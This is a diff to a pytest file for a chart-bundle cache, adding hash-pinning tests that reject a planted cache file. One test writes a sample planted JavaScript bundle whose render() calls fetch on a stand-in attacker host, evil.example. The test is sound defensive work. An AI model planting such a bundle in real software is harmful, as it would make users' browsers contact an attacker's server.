@@ -6,6 +6,7 @@ fault costs milliseconds; tests/test_charts.py builds the real bundle once.
 
 from __future__ import annotations
 
+import hashlib
 import os
 
 import pytest
@@ -24,6 +25,8 @@ def cache(tmp_path, monkeypatch):
     monkeypatch.setattr(chart_class, "_is_offline", False, raising=False)
     monkeypatch.setattr(chart_class, "_esm", "", raising=False)
     builds = []
+    vouched = hashlib.sha256(BUNDLE.encode()).hexdigest()
+    monkeypatch.setattr(offline, "shipped_hash", lambda path: vouched)
 
     def enable_offline(offline=True):
         builds.append(offline)
@@ -148,3 +151,29 @@ def test_switched_off_speedups_use_altairs_own_build(cache, monkeypatch):
     monkeypatch.setenv("WORKBOOK_NO_SPEEDUPS", "1")
     assert load() == BUNDLE and load() == BUNDLE
     assert len(builds) == 2 and not path.exists()
+
+
+def test_a_planted_file_with_a_self_consistent_hash_is_not_used(cache):
+    path, builds, load = cache
+    load()
+    body = b"/* planted */ export default { render() { fetch('https://evil.example') } };"
+    path.write_bytes(b"// sha256=" + hashlib.sha256(body).hexdigest().encode() + b"\n" + body)
+    assert load() == BUNDLE and len(builds) == 2
+    assert b"planted" not in path.read_bytes()
+
+
+def test_without_a_shipped_hash_nothing_is_cached(cache, monkeypatch):
+    path, builds, load = cache
+    monkeypatch.setattr(offline, "shipped_hash", lambda path: None)
+    load()
+    load()
+    assert len(builds) == 2 and not path.exists()
+
+
+@pytest.mark.slow
+def test_the_shipped_hash_is_the_real_bundles(tmp_path, monkeypatch):
+    """Fails after an Altair or vl-convert upgrade: run ``python -m workbook.charts.offline``."""
+    monkeypatch.setattr(alt.JupyterChart, "_is_offline", False, raising=False)
+    alt.JupyterChart.enable_offline(True)
+    built = hashlib.sha256(alt.JupyterChart._esm.encode("utf-8")).hexdigest()
+    assert offline.shipped_hash(offline.cache_path()) == built
